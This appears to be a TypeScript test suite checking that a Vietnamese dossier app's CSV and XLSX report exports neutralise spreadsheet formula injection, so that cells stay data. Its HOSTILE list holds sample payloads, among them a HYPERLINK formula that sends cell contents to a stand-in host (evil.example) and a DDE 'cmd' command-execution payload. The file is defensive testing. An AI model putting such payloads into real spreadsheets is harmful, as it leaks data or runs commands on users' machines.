import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { tableToCsv, tableToXlsx, type ReportTable } from '../../src/documents/spreadsheet';
import { createTestContext, dossierBody, PROCEDURE, seedBasics } from '../support/context';

// What a spreadsheet program would run as a formula if the cell were taken as typed (OWASP,
// "CSV injection"): =, +, -, @, and a leading tab or carriage return.
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Xem")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

function table(rows: (string | number | null)[][]): ReportTable {
  return {
    title: 'Báo cáo thử',
    fileName: 'bao-cao-thu',
    columns: [
      { header: 'Mã', kind: 'text' },
      { header: 'Tên', kind: 'text' },
      { header: 'Số hồ sơ', kind: 'int' },
      { header: 'Tỷ lệ', kind: 'rate' },
    ],
    rows,
  };
}

const csvRows = (buffer: Buffer): string[][] => parseCsv(buffer.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true });

describe('spreadsheets: cells are data, never formulas', () => {
  it('CSV: a text cell that starts like a formula gets a leading apostrophe; numbers, negative ones too, stay numbers', () => {
    const rows = [...HOSTILE.map((name, i) => [`M${i}`, name, i, 0.5]), ['-', 'Âm', -5, -0.25], ['OK', 'Sở Xây dựng', 3, null]];
    const parsed = csvRows(tableToCsv(table(rows)));
    HOSTILE.forEach((name, i) => assert.equal(parsed[i + 1][1], `'${name}`, `${JSON.stringify(name)} must reach the spreadsheet as text`));
    assert.deepEqual(parsed[HOSTILE.length + 1], ["'-", 'Âm', '-5', '-25,0%'], 'a text "-" is neutralised; the number -5 and the rate stay as they are');
    assert.deepEqual(parsed[HOSTILE.length + 2], ['OK', 'Sở Xây dựng', '3', ''], 'ordinary text is untouched');
  });

  it('XLSX: the same texts are string cells, with no formula, read back as written', async () => {
    const rows = [...HOSTILE.map((name, i) => [`M${i}`, name, -i, 0.5]), ['Tổng cộng', '', 6, 1]];
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await tableToXlsx(table(rows))) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    HOSTILE.forEach((name, i) => {
      const cell = sheet.getRow(i + 4).getCell(2); // title, blank line, header, then the rows
      assert.equal(cell.type, ExcelJS.ValueType.String, `${JSON.stringify(name)} must be a string cell, got type ${cell.type}`);
      assert.equal(cell.formula, undefined, `${JSON.stringify(name)} must not be a formula`);
      // XML reads a bare CR as LF (XML 1.0, §2.11); the text is otherwise exactly as written.
      assert.equal(cell.value, name.replace(/\r/g, '\n'), 'an XLSX string cell keeps the text, without the CSV apostrophe');
      assert.equal(sheet.getRow(i + 4).getCell(3).type, ExcelJS.ValueType.Number, 'numbers stay numbers');
    });
  });

  it('a report exported through the API neutralises a procedure named like a formula', async function () {
    this.timeout(30_000);
    const ctx = await createTestContext('2026-03-02T09:00:00+07:00');
    try {
      await seedBasics(ctx);
      await ctx.api('patch', `/api/v1/procedures/${PROCEDURE.code}`).send({ name: HOSTILE[0] }).expect(200);
      await ctx.api('post', '/api/v1/dossiers').send(dossierBody({ code: 'CSV-1' })).expect(201);
      const csv = await ctx.api('get', '/api/v1/reports/period?period=2026-Q1&groupBy=procedure&format=csv').buffer(true).expect(200);
      const rows = csvRows(Buffer.from(csv.text, 'utf8'));
      const row = rows.find((r) => r[0] === PROCEDURE.code);
      assert.ok(row, `the procedure's row is in the CSV: ${JSON.stringify(rows)}`);
      assert.equal(row[1], `'${HOSTILE[0]}`);
    } finally {
      await ctx.close();
    }
  });
});
